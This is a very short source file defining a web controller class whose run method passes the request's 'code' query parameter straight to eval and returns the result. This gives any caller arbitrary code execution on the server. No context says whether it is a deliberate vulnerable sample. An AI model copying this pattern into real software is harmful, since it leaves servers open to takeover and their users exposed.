@controller
class Api { run(req) { return eval(req.query.code); } }
export default Api;
